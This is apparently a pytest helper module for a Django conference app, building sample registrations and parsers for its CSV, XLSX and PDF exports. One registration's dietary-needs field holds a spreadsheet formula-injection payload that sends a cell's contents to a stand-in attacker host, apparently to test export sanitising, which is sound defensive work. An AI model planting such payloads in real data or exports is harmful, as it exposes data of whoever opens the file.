"""
Helpers for the export, gate-list, badge and check-in tests: a small cast of
registrations with everything the exports show, and readers that parse what
is served (CSV with the csv module, XLSX with openpyxl, PDF text with pypdf).
"""

import csv
import datetime
import io

import pytest
from django.test import Client
from openpyxl import load_workbook
from pypdf import PdfReader

from conference.core.models import OrganisationKind
from tests.factories import (
    MeetingFactory,
    MeetingSeatFactory,
    OrganisationFactory,
    RegistrationFactory,
    SessionFactory,
    SessionSignupFactory,
    UserFactory,
    local_time,
)


def login(user):
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def url(conference, path=""):
    return f"/events/{conference.slug}/{path}"


def body(response):
    """The bytes of a response, streamed or not (a stream is read once, then kept)."""
    if not response.streaming:
        return response.content
    if not hasattr(response, "read_body"):
        response.read_body = b"".join(response.streaming_content)
    return response.read_body


def read_csv(response):
    text = body(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def read_xlsx(response):
    return load_workbook(io.BytesIO(body(response)))


def pdf_pages(response):
    """The text of each page of a PDF response."""
    reader = PdfReader(io.BytesIO(body(response)))
    return [page.extract_text() for page in reader.pages]


@pytest.fixture
def cast(conference):
    """
    Registrations with everything the exports read:
    - sato: approved, Japanese name, OEM from Japan, VIP, signed up to a
      session, in one B2B meeting, checked in at 09:12 conference time;
    - mehta: approved recycler from India, a formula in her dietary needs,
      in the same meeting (with sato);
    - lee: pending financier from Australia;
    - other: a registration of another conference.
    """
    toyota = OrganisationFactory(name="Toyota Tsusho", kind=OrganisationKind.OEM, country="JP")
    lohum = OrganisationFactory(name="Lohum", kind=OrganisationKind.RECYCLER, country="IN")
    jbic = OrganisationFactory(name="JBIC Sydney", kind=OrganisationKind.FINANCIER, country="AU")
    sato = RegistrationFactory(
        conference=conference,
        user=UserFactory(given_name="花子", family_name="佐藤", family_name_first=True),
        organisation=toyota,
        job_title="General Manager",
        status="approved",
        is_vip=True,
        nationality="JP",
        id_document_type="passport",
        id_document_number="TK1234567",
        id_document_expiry=datetime.date(2031, 5, 1),
        dietary_needs="Vegetarian",
        checked_in_at=local_time(conference, 9, 12),
    )
    mehta = RegistrationFactory(
        conference=conference,
        user=UserFactory(given_name="Priya", family_name="Mehta"),
        organisation=lohum,
        job_title="Head of Recycling",
        status="approved",
        nationality="IN",
        id_document_type="national_id",
        id_document_number="IN-998877",
        dietary_needs='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        access_needs="-wheelchair access",
    )
    lee = RegistrationFactory(
        conference=conference,
        user=UserFactory(given_name="Daniel", family_name="Lee"),
        organisation=jbic,
        status="pending",
        nationality="AU",
        id_document_number="PA555",
    )
    other = RegistrationFactory(
        user=UserFactory(given_name="Outsider", family_name="Elsewhere"), status="approved"
    )
    session = SessionFactory(conference=conference, title="Securing anchor off-takers")
    SessionSignupFactory(session=session, registration=sato)
    meeting = MeetingFactory(conference=conference)
    MeetingSeatFactory(meeting=meeting, registration=sato)
    MeetingSeatFactory(meeting=meeting, registration=mehta)
    return {
        "sato": sato,
        "mehta": mehta,
        "lee": lee,
        "other": other,
        "session": session,
        "meeting": meeting,
        "toyota": toyota,
        "lohum": lohum,
    }
